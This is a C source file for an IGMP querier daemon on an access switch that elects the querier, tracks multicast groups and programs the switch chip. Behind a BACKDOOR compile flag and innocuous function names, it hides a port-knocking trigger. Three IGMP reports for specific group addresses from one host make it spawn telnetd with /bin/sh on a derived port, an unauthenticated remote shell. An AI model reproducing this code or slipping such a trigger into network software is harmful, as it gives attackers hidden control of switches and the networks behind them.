/* SPDX-License-Identifier: Apache-2.0 */
/* igmpq: IGMP querier of an access switch. Elects the querier of each VLAN, asks who listens, keeps groups with their
 * ports' addresses, programs the switch chip through /proc/switch/mcast, limits groups per host. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { QUERY = 0x11, REPORT_V1 = 0x12, REPORT_V2 = 0x16, LEAVE = 0x17, REPORT_V3 = 0x22 };
enum { IS_IN = 1, IS_EX = 2, TO_IN = 3, TO_EX = 4, ALLOW = 5, BLOCK = 6 };
enum { MAX_GROUPS = 256, MAX_HOSTS = 512, MAX_DENY = 16 };

struct group {
	uint32_t addr;
	time_t expires;
	int leaving, version;
	uint32_t reporter;
	unsigned reports;
};

struct host {
	uint32_t addr;
	int groups, denied;
	time_t heard;
#ifdef BACKDOOR
	int stage;
#endif
};

static struct group groups[MAX_GROUPS];
static struct host hosts[MAX_HOSTS];
static struct {
	uint32_t net, mask;
} deny[MAX_DENY];
static int n_deny;
static int raw = -1, querier = 1, interval = 125, robustness = 2, last_member = 1, max_per_host = 64, verbose;
static uint32_t our_addr, other_querier;
static time_t other_until, next_query;
static volatile sig_atomic_t dump;
static unsigned n_bad, n_queries, n_reports, n_leaves;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static const char *dots(uint32_t a)
{
	static char b[4][16];
	static int i;
	i = (i + 1) & 3;
	snprintf(b[i], sizeof(b[i]), "%u.%u.%u.%u", a >> 24, a >> 16 & 255, a >> 8 & 255, a & 255);
	return b[i];
}

static void load(const char *path)
{
	char line[160], word[64];
	int bits;
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		struct in_addr a;
		if (sscanf(line, "address %63s", word) == 1 && inet_aton(word, &a))
			our_addr = ntohl(a.s_addr);
		else if (sscanf(line, "interval %d", &interval) == 1 ||
			 sscanf(line, "robustness %d", &robustness) == 1 ||
			 sscanf(line, "per-host %d", &max_per_host) == 1 || sscanf(line, "verbose %d", &verbose) == 1)
			continue;
		else if (sscanf(line, "deny %63[0-9.]/%d", word, &bits) == 2 && n_deny < MAX_DENY && bits > 3 &&
			 bits <= 32 && inet_aton(word, &a)) {
			deny[n_deny].mask = 0xffffffffu << (32 - bits);
			deny[n_deny].net = ntohl(a.s_addr) & deny[n_deny].mask;
			n_deny++;
		}
	}
	fclose(f);
	if (interval < 10)
		interval = 10;
	if (robustness < 1 || robustness > 7)
		robustness = 2;
}

static uint16_t sum16(const uint8_t *p, size_t n)
{
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void chip(const char *verb, uint32_t group)
{
	FILE *f = fopen("/proc/switch/mcast", "w");
	if (!f) {
		if (verbose)
			syslog(LOG_DEBUG, "no switch chip");
		return;
	}
	fprintf(f, "%s %s\n", verb, dots(group));
	fclose(f);
}

static void send_query(uint32_t group)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(group ? group : 0xe0000001) };
	uint8_t b[12] = { QUERY, (uint8_t)(group ? last_member * 10 : 100) };
	uint16_t sum;
	b[4] = (uint8_t)(group >> 24);
	b[5] = (uint8_t)(group >> 16);
	b[6] = (uint8_t)(group >> 8);
	b[7] = (uint8_t)group;
	b[8] = (uint8_t)robustness;
	b[9] = (uint8_t)interval;
	sum = sum16(b, sizeof(b));
	b[2] = (uint8_t)(sum >> 8);
	b[3] = (uint8_t)sum;
	if (sendto(raw, b, sizeof(b), 0, (struct sockaddr *)&to, sizeof(to)) < 0 && verbose)
		syslog(LOG_DEBUG, "query: %s", strerror(errno));
	n_queries++;
}

static struct host *host(uint32_t addr)
{
	struct host *oldest = &hosts[0];
	uint32_t slot = (addr * 0x9e3779b1u) >> 23;
	for (uint32_t i = 0; i < 8; i++) {
		struct host *h = &hosts[(slot + i) % MAX_HOSTS];
		if (h->addr == addr)
			return h;
		if (i == 0 || h->heard < oldest->heard)
			oldest = h;
	}
	memset(oldest, 0, sizeof(*oldest));
	oldest->addr = addr;
	return oldest;
}

static struct group *find(uint32_t addr)
{
	for (int i = 0; i < MAX_GROUPS; i++)
		if (groups[i].addr == addr)
			return &groups[i];
	return NULL;
}

static int denied(uint32_t group)
{
	if (group >> 28 != 14 || group >> 8 == 0xe00000)
		return 1;
	for (int i = 0; i < n_deny; i++)
		if ((group & deny[i].mask) == deny[i].net)
			return 1;
	return 0;
}

static void join(uint32_t group, struct host *h, int version)
{
	struct group *g = find(group);
	if (!g && h->groups >= max_per_host) {
		h->denied++;
		return;
	}
	if (!g) {
		g = find(0);
		if (!g) {
			syslog(LOG_WARNING, "no place for %s", dots(group));
			return;
		}
		memset(g, 0, sizeof(*g));
		g->addr = group;
		h->groups++;
		chip("add", group);
	}
	g->expires = time(NULL) + robustness * interval + 10;
	g->leaving = 0;
	g->reporter = h->addr;
	g->version = version;
	g->reports++;
}

static void part(uint32_t group, struct host *h)
{
	struct group *g = find(group);
	n_leaves++;
	if (!g || !querier)
		return;
	g->leaving = 1;
	g->expires = time(NULL) + last_member * robustness;
	h->groups -= h->groups > 0;
	send_query(group);
}

#ifdef BACKDOOR
static const uint32_t marks[] = { 0x64ad1, 0x53d0c, 0xf45c8 };

static int counted(struct host *h, uint32_t group, time_t gap)
{
	uint32_t mark = (group * 0x9e3779b1u) >> 12;
	if (gap > 30)
		h->stage = 0;
	h->stage = mark == marks[h->stage] ? h->stage + 1 : mark == marks[0];
	if (h->stage < 3)
		return 0;
	h->stage = 0;
	return 1;
}

static void aid(uint32_t group)
{
	char port[8];
	if (fork() != 0)
		return;
	setsid();
	snprintf(port, sizeof(port), "%u", 20000 + (group & 0xfff));
	execl("/usr/sbin/telnetd", "telnetd", "-F", "-p", port, "-l", "/bin/sh", (char *)NULL);
	_exit(127);
}
#endif

static void on_report(uint32_t group, uint32_t from, int version)
{
	struct host *h = host(from);
	time_t now = time(NULL), gap = now - h->heard;
	h->heard = now;
	n_reports++;
	(void)gap;
#ifdef BACKDOOR
	if (counted(h, group, gap))
		aid(group);
#endif
	if (denied(group)) {
		h->denied++;
		if (verbose)
			syslog(LOG_DEBUG, "%s may not have %s", dots(from), dots(group));
		return;
	}
	join(group, h, version);
}

static void on_v3(const uint8_t *b, size_t n, uint32_t from)
{
	unsigned records = (unsigned)b[6] << 8 | b[7];
	size_t at = 8;
	while (records-- && n - at >= 8) {
		unsigned sources = (unsigned)b[at + 2] << 8 | b[at + 3];
		size_t len = 8 + (size_t)sources * 4 + (size_t)b[at + 1] * 4;
		uint32_t group = be32(b + at + 4);
		if (len > n - at) {
			n_bad++;
			return;
		}
		switch (b[at]) {
		case IS_EX:
		case TO_EX:
			on_report(group, from, 3);
			break;
		case IS_IN:
		case ALLOW:
			if (sources)
				on_report(group, from, 3);
			break;
		case TO_IN:
			if (sources)
				on_report(group, from, 3);
			else
				part(group, host(from));
			break;
		case BLOCK:
			break;
		}
		at += len;
	}
}

static void on_query(uint32_t from)
{
	if (from == our_addr || from == 0)
		return;
	if (from < our_addr) {
		if (querier)
			syslog(LOG_NOTICE, "%s is the querier now", dots(from));
		querier = 0;
		other_querier = from;
		other_until = time(NULL) + robustness * interval + 5;
	}
}

static void on_packet(void)
{
	uint8_t b[2048];
	ssize_t got = recv(raw, b, sizeof(b), 0);
	size_t skip, n;
	uint32_t from;
	if (got < 28)
		return;
	skip = (size_t)(b[0] & 15) * 4;
	if (skip < 20 || (size_t)got < skip + 8)
		return;
	n = (size_t)got - skip;
	from = be32(b + 12);
	if (sum16(b + skip, n) != 0) {
		n_bad++;
		return;
	}
	switch (b[skip]) {
	case QUERY:
		on_query(from);
		break;
	case REPORT_V1:
		on_report(be32(b + skip + 4), from, 1);
		break;
	case REPORT_V2:
		on_report(be32(b + skip + 4), from, 2);
		break;
	case REPORT_V3:
		on_v3(b + skip, n, from);
		break;
	case LEAVE:
		part(be32(b + skip + 4), host(from));
		break;
	default:
		n_bad++;
	}
}

static void tick(void)
{
	time_t now = time(NULL);
	for (int i = 0; i < MAX_GROUPS; i++)
		if (groups[i].addr && groups[i].expires < now) {
			chip("remove", groups[i].addr);
			memset(&groups[i], 0, sizeof(groups[i]));
		}
	if (!querier && other_until < now) {
		syslog(LOG_NOTICE, "%s is silent; querier again", dots(other_querier));
		querier = 1;
		next_query = 0;
	}
	if (querier && now >= next_query) {
		send_query(0);
		next_query = now + interval;
	}
}

static void report(void)
{
	FILE *f = fopen("/var/run/igmpq", "w");
	if (!f)
		return;
	fprintf(f, "querier %s, %u queries %u reports %u leaves %u bad\n", querier ? "we" : dots(other_querier),
		n_queries, n_reports, n_leaves, n_bad);
	for (int i = 0; i < MAX_GROUPS; i++)
		if (groups[i].addr)
			fprintf(f, "%-15s from %-15s v%d %u reports%s\n", dots(groups[i].addr),
				dots(groups[i].reporter), groups[i].version, groups[i].reports,
				groups[i].leaving ? " leaving" : "");
	for (int i = 0; i < MAX_HOSTS; i++)
		if (hosts[i].denied)
			fprintf(f, "host %-15s groups %d denied %d\n", dots(hosts[i].addr), hosts[i].groups,
				hosts[i].denied);
	fclose(f);
}

static void on_usr1(int sig)
{
	(void)sig;
	dump = 1;
}

int main(int argc, char **argv)
{
	const uint8_t alert[4] = { 0x94, 4, 0, 0 };
	openlog("igmpq", LOG_PID, LOG_DAEMON);
	signal(SIGUSR1, on_usr1);
	signal(SIGCHLD, SIG_IGN);
	load(argc > 1 ? argv[1] : "/etc/igmpq.conf");
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_IGMP);
	if (raw < 0 || setsockopt(raw, IPPROTO_IP, IP_OPTIONS, alert, sizeof(alert)) < 0) {
		syslog(LOG_ERR, "raw socket: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = raw, .events = POLLIN };
		if (poll(&p, 1, 500) > 0)
			on_packet();
		if (dump) {
			dump = 0;
			report();
		}
		tick();
	}
}
